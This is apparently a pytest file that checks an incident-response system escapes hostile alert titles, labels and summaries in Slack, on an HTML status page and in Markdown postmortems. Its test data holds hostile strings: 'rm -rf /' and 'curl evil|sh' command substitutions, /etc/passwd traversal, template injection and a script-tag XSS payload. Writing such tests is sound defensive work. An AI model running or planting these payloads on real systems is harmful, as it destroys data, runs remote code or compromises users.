"""R7 injection: hostile alert text must stay text — in Slack mrkdwn, on the status page (HTML) and in the
postmortem draft (Markdown) — and bytes that are not UTF-8 are refused at the gateway. (Runbook input validation
against shell metacharacters, traversal and template syntax is tests/integration/workflows/test_runbook_workflow.py::
test_hostile_alert_labels_never_reach_an_executor.)"""

import json
import uuid
from datetime import UTC, datetime

import pytest

from activities.learning import LedgerActivities
from adapters.channels.slack_blocks import header_blocks, header_text, mrkdwn_escape
from domain.common.markdown import markdown_text
from domain.comms.view import build_view
from domain.incident.lifecycle import new_incident
from domain.incident.phases import Phase
from domain.incident.severity import Severity
from domain.incident.state import IncidentStart
from testkit.comms import comms_settings, comms_worker, snapshot
from testkit.gateway import address_of, alertmanager_group, assert_no_workflow, served
from testkit.polling import wait_until
from workflows.incident import WORKFLOW_ID_PREFIX

HOSTILE = [
    "<!channel> payments down",  # would notify everyone in the channel
    "<http://evil.example|click to fix>",  # a disguised link
    "<@U0ADMIN> approve please",
    "$(rm -rf /); `id` && echo pwned | sh",
    "../../etc/passwd",
    "{{ config.__class__ }} {0.__globals__}",
    "x" * 5000,
]


@pytest.mark.parametrize("title", HOSTILE)
def test_hostile_titles_are_escaped_in_the_slack_header(policy, title):
    start = IncidentStart(id="inj-1", title=title, service="payments", severity=Severity.SEV1, declared_by="am",
                          impact=title)
    view = build_view(policy, new_incident(policy, start, datetime.now(UTC)), datetime.now(UTC))
    rendered = [header_text(view), header_blocks(view)[1]["text"]["text"]]
    for text in rendered:
        assert "<!channel>" not in text and "<http" not in text and "<@U0ADMIN>" not in text
        if "<" in title:
            assert "&lt;" in text
    assert len(header_blocks(view)[1]["text"]["text"]) <= 3000  # Slack's section limit, even for 5,000 chars


@pytest.mark.parametrize("title", HOSTILE)
def test_hostile_titles_are_escaped_in_the_temporal_ui_details(policy, title):
    start = IncidentStart(id="inj-1", title=title, service="payments", severity=Severity.SEV1, declared_by="am",
                          impact=title)
    details = start.ui_details()
    assert len(start.title) <= 300  # the 5,000-character one is cut to the limit (domain/common/limits.py)
    assert details.splitlines()[0] == f"**{markdown_text(start.title)}**"[:2000]
    assert "<!channel>" not in details and "<http" not in details and "](http" not in details
    assert len(details) <= 2000 and len(start.ui_summary()) <= 200


def test_mrkdwn_escape_escapes_exactly_slacks_three_characters():
    assert mrkdwn_escape("a & b <c> 'd' \"e\" *f*") == "a &amp; b &lt;c&gt; 'd' \"e\" *f*"


def test_markdown_text_keeps_hostile_text_literal_on_one_line():
    assert markdown_text("<img src=x onerror=alert(1)> [click](http://evil) `x` a|b \\\n# owned\r\n> quote") == (
        "&lt;img src=x onerror=alert(1)> \\[click\\](http://evil) \\`x\\` a\\|b \\\\ # owned > quote")
    assert markdown_text("# heading") == "\\# heading"
    assert markdown_text("snake_case *x* 2026-05-04 (KST) {{ x }}") == "snake_case *x* 2026-05-04 (KST) {{ x }}"


HOSTILE_SUMMARY = ("<script>alert(1)</script> | [click](http://evil.example) {{ 7*7 }} {0.__class__} "
                   "$(rm -rf /); `id` ../../etc/passwd\n# Owned")
HOSTILE_LABELS = {
    "cmd": "$(curl evil|sh); `id` && rm -rf / > /dev/null",
    "path": "../../../../etc/passwd",
    "tpl": "{{ config.__class__.__init__.__globals__ }} {0.__globals__} ${HOME}",
    "huge": "x" * 100_000,
}


async def test_hostile_alert_is_stored_as_text_and_shown_escaped_on_the_status_page_and_in_the_postmortem(
        time_env, task_queue, tmp_path, ledger):
    settings = comms_settings(tmp_path)
    client = time_env.client
    group = alertmanager_group(f"hostile-{uuid.uuid4().hex}", **HOSTILE_LABELS)
    group["commonAnnotations"]["summary"] = HOSTILE_SUMMARY
    group["alerts"][0]["annotations"]["summary"] = HOSTILE_SUMMARY
    async with comms_worker(client, task_queue, settings, learning=LedgerActivities(ledger, tmp_path)):
        with served(address_of(client), task_queue, data_dir=tmp_path) as gateway:
            async with gateway.http() as http:
                answer = await http.post("/webhooks/alertmanager", json=group)
                assert answer.status_code == 200, answer.text
                incident_id = answer.json()["incident_id"]
                assert answer.json()["started"] is True

                async def on_the_page():
                    doc = (await http.get("/status.json")).json()
                    return doc if any(i["id"] == incident_id for i in doc["incidents"]) else None

                await wait_until(on_the_page, "the incident on the status page")
                page = (await http.get("/status")).text
                state = await snapshot(client, incident_id)
                for decision in ({"kind": "acknowledge", "by": "jiyoung"},
                                 {"kind": "resolve", "by": "jiyoung", "summary": HOSTILE_SUMMARY}):
                    answer = await http.post(f"/api/incidents/{incident_id}/decisions", json=decision)
                    assert answer.status_code == 200, answer.text

            async def drafted():
                path = tmp_path / "postmortems" / f"{incident_id}.md"
                current = await snapshot(client, incident_id)
                return path.read_text(encoding="utf-8") if current.phase == Phase.POSTMORTEM and path.exists() else None

            draft = await wait_until(drafted, "the postmortem draft", timeout=60)
        await client.get_workflow_handle(WORKFLOW_ID_PREFIX + incident_id).terminate("test over")

    # stored as text, exactly as sent: nothing was interpreted on the way; the 100 kB value is cut to the limit
    alert = next(iter(state.alerts.values()))
    labels = alert.labels
    assert {k: labels[k] for k in HOSTILE_LABELS if k != "huge"} == {
        k: v for k, v in HOSTILE_LABELS.items() if k != "huge"}
    assert alert.clipped and set(labels.get("huge", "x")) <= {"x", "…"} and len(labels.get("huge", "")) <= 1024
    assert HOSTILE_SUMMARY.split(" |")[0] in state.title
    # status page: escaped HTML, no live markup, template syntax shown literally
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "{{ 7*7 }}" in page and ">49<" not in page
    # postmortem Markdown: the title stays one heading line, no raw HTML, no link, tables unbroken
    title_line = next(line for line in draft.splitlines() if line.startswith("# Postmortem: "))
    assert "&lt;script>alert(1)&lt;/script>" in title_line and "\\[click\\](http://evil.example)" in title_line
    assert "{{ 7*7 }}" in title_line and "\\|" in title_line
    assert "<script>" not in draft and "](http://evil" not in draft.replace("\\](http://evil", "")
    assert "\n# Owned" not in draft and "\n\\# Owned" not in draft  # the newline did not start a heading
    summary_line = draft.split("## Summary\n", 1)[1].splitlines()[0]
    assert summary_line.startswith("&lt;script>") and "# Owned" in summary_line


async def test_non_utf8_bytes_in_an_alert_body_are_refused_and_start_nothing(time_env, task_queue):
    group = alertmanager_group(f"bytes-{uuid.uuid4().hex}")
    body = json.dumps(group).encode().replace(b'"instance": "a1"', b'"instance": "a1\xff\xfe\xc3("')
    assert b"\xff" in body
    with served(address_of(time_env.client), task_queue) as gateway:
        async with gateway.http() as http:
            answer = await http.post("/webhooks/alertmanager", content=body,
                                     headers={"Content-Type": "application/json"})
    assert answer.status_code in (400, 422), answer.text
    assert "detail" in answer.json()
    await assert_no_workflow(time_env.client, "alertmanager", group["groupKey"])
